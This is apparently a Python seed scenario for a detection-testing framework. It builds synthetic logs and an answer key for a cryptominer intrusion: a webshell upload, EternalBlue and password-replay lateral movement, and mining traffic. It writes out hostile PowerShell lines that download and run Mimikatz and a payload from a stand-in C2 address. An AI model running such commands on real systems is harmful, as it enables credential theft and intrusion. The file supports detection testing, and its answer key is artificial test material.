"""Seed case 1: car maker; upload hole on the website, EternalBlue and one shared password inside.

The IIS site on ``WEB01`` accepts an ``.aspx`` upload; the shell starts PowerShell, which
loads the miner in memory (script block with the pool and wallet), registers a task that
starts it again, and dumps credentials with an in-memory Mimikatz. From ``WEB01`` the worm
uses EternalBlue on ``DB01`` (unpatched), and the dumped local Administrator password (the
same on every server) to install a service on ``APP01``; ``DB01``'s copy uses EternalBlue on
``APP02``. ``FILE01`` is patched and has its own password: probed, failed logons, clean.
``BAK01`` came as registry hives only, without event logs (unknown). The network sensor
(Suricata) saw the MS17-010 exploits, the downloads and the pool traffic.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from deminer.scenarios.net_logs import MINER_CHECKIN, MS17_010, Alert, Network
from deminer.scenarios.seed.common import Persist, Truth, resolve_names, utc
from deminer.scenarios.seed.hosts_windows import WinBox, powershell_miner, sid
from deminer.scenarios.web_logs import AccessLog

ATTACKER, C2 = "203.0.113.21", "198.51.100.9"
POOL_IP = "198.51.100.77"
START = utc("2024-03-05 00:00:00")
TASK = r"Microsoft\Windows\Maintenance\SysUpd"
W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"
CMD = r"C:\Windows\System32\cmd.exe"


def _eternalblue(net: Network, src: str, dst: str, at: dt.datetime, works: bool = True) -> None:
    """SMB exchanges of an MS17-010 exploit; the sensor's alerts come with them."""
    net.now = at - dt.timedelta(seconds=20)
    c = net.conn(src, dst, 445, service="smb", duration=6.5, orig_bytes=120_000, resp_bytes=3_400,
                 orig_pkts=160, resp_pkts=40)
    for sig in MS17_010 if works else MS17_010[:2]:
        net.alerts.append(Alert(c.ts + dt.timedelta(seconds=1), c, sig, "smb"))


def _payload(box: WinBox, at: dt.datetime, parent: str) -> None:
    powershell_miner(box, at, parent, C2, TASK)


def build(out: Path, work: Path) -> Truth:
    truth = Truth(1, "Upload hole on the website, then EternalBlue and a shared password inside",
                  "web_exploit")
    web = WinBox("WEB01", "10.1.0.10", START)
    db = WinBox("DB01", "10.1.0.20", START)
    app1 = WinBox("APP01", "10.1.0.21", START)
    app2 = WinBox("APP02", "10.1.0.22", START, product="Windows Server 2008 R2 Standard", version="6.1",
                  build="7601", sp="Service Pack 1")
    file1 = WinBox("FILE01", "10.1.0.30", START, patched=True)
    bak = WinBox("BAK01", "10.1.0.40", START, patched=True)
    for box, verdict in ((web, "infected"), (db, "infected"), (app1, "infected"), (app2, "infected"),
                         (file1, "clean"), (bak, "unknown")):
        truth.host(box.name.lower(), box.ip, verdict)
    truth.patient_zero = {"web01"}
    net = Network(start=START, seed=1, resolver="10.1.0.2")

    # 1. The upload hole: the IIS log (in the C: copy) and what the shell ran.
    site = AccessLog(vhost="www.carmaker.example", start=utc("2024-03-05 01:30:00"), seed=1, computer="WEB01")
    site.benign(minutes=30)
    site.upload_webshell(ATTACKER, upload="/dealer/upload.aspx", shell="/upload/files/2024/img_7731.aspx",
                         commands=("whoami", "ipconfig+%2Fall", "powershell+-nop+-w+hidden+-c+IEX"))
    t_web = site.requests[-1].ts + dt.timedelta(seconds=2)
    site.benign(minutes=20)
    web.extra_files["C/inetpub/logs/LogFiles/W3SVC1/u_ex240305.log"] = (
        ("\r\n".join(site.lines(fmt="iis")) + "\r\n").encode(), site.clock)
    web.process(t_web - dt.timedelta(seconds=1), CMD, r'cmd.exe /c "powershell -nop -w hidden -c IEX"', W3WP,
                user="IIS APPPOOL\\DefaultAppPool")
    _payload(web, t_web, CMD)
    web.process(t_web + dt.timedelta(minutes=3), r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell.exe -nop -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString("
                f"'http://{C2}/Invoke-Mimikatz.ps1');Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'\"",
                CMD)
    truth.infect("web01", t_web, Persist("task", "\\" + TASK))

    # 2. EternalBlue from WEB01 to DB01: the payload runs under lsass, no logon at all.
    t_db = utc("2024-03-05 02:31:00")
    _eternalblue(net, web.ip, db.ip, t_db)
    _payload(db, t_db, r"C:\Windows\System32\lsass.exe")
    truth.edge("web01", "db01", "eternalblue", t_db)
    truth.infect("db01", t_db, Persist("task", "\\" + TASK))

    # 3. The shared Administrator password, replayed from WEB01: a PsExec-style service on APP01.
    t_app1 = utc("2024-03-05 02:45:00")
    app1.logon(t_app1 - dt.timedelta(seconds=30), "Administrator", web.ip, workstation="WEB01")
    svc_cmd = (r"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -c "
               f"\"IEX(New-Object Net.WebClient).DownloadString('http://{C2}/m.ps1')\"")
    app1.service(t_app1, "WVgQxNbk", svc_cmd, installer_sid=sid("Administrator"), registry=False)
    _payload(app1, t_app1 + dt.timedelta(seconds=5), r"C:\Windows\System32\cmd.exe")
    truth.edge("web01", "app01", "psexec_service", t_app1)
    truth.infect("app01", t_app1, Persist("task", "\\" + TASK))

    # 4. DB01's copy goes on with EternalBlue; FILE01 is patched and has its own password.
    t_app2 = utc("2024-03-05 03:05:00")
    _eternalblue(net, db.ip, app2.ip, t_app2)
    _payload(app2, t_app2, r"C:\Windows\System32\spoolsv.exe")
    truth.edge("db01", "app02", "eternalblue", t_app2)
    truth.infect("app02", t_app2, Persist("task", "\\" + TASK))
    _eternalblue(net, web.ip, file1.ip, utc("2024-03-05 02:50:00"), works=False)
    for i in range(3):
        file1.logon(utc("2024-03-05 02:51:00") + dt.timedelta(seconds=i), "Administrator", web.ip, ok=False,
                    workstation="WEB01")

    # The miners' pool sessions and C2 downloads; routine backups of every server.
    net.now = utc("2024-03-05 03:30:00")
    for box in (web, db, app1, app2):
        h = net.conn(box.ip, C2, 80, service="http", duration=1.2, orig_bytes=240, resp_bytes=2_900_000,
                     orig_pkts=40, resp_pkts=2100)
        h.extra["http"] = {"trans_depth": 1, "method": "GET", "host": C2, "uri": "/x64.bin", "version": "1.1",
                           "user_agent": "-", "request_body_len": 0, "response_body_len": 2_899_000,
                           "status_code": 200, "status_msg": "OK",
                           "resp_mime_types": ["application/x-dosexec"]}
        c = net.conn(box.ip, POOL_IP, 4444, duration=5400.0, orig_bytes=90_000, resp_bytes=400_000,
                     state="S1", orig_pkts=900, resp_pkts=950)
        net.alerts.append(Alert(c.ts + dt.timedelta(seconds=1), c, MINER_CHECKIN))
    resolve_names(net, bak.ip, {b.name.lower(): b.ip for b in (web, db, app1, app2, file1, bak)})
    for box in (web, db, app1, app2, file1, bak):
        net.conn(bak.ip, box.ip, 445, service="smb", duration=600.0, orig_bytes=80_000,
                 resp_bytes=500_000_000, orig_pkts=9000, resp_pkts=350_000)

    for box in (web, db, app1, app2, file1):
        box.write(out)
    bak.write(out, logs=False)
    (out / "sensor").mkdir(parents=True, exist_ok=True)
    net.write_eve(out / "sensor" / "eve.json")

    truth.want("web01", "impact.win_miner_execution")
    for name in ("db01", "app01", "app02"):
        truth.want(name, "impact.win_miner_execution")
    truth.want("app01", "lateral_movement.win_remote_service_install")
    truth.want("web01", "persistence.webshell_upload", "persistence.webshell_request")
    for name in ("web01", "db01", "app01", "app02"):
        truth.want(name, "command_and_control.net_ids_miner_alert", needs="network")
    for name in ("db01", "app02"):         # the sensor names the exploited end
        truth.want(name, "lateral_movement.net_eternalblue_traits", needs="network")
    truth.clean_may = {"credential_access.win_smb_brute_force", "lateral_movement.net_eternalblue_traits"}
    truth.notes.append("APP01's edge is a PsExec-style service installed with the local Administrator "
                       "password Mimikatz dumped on WEB01 (the same on every server).")
    return truth
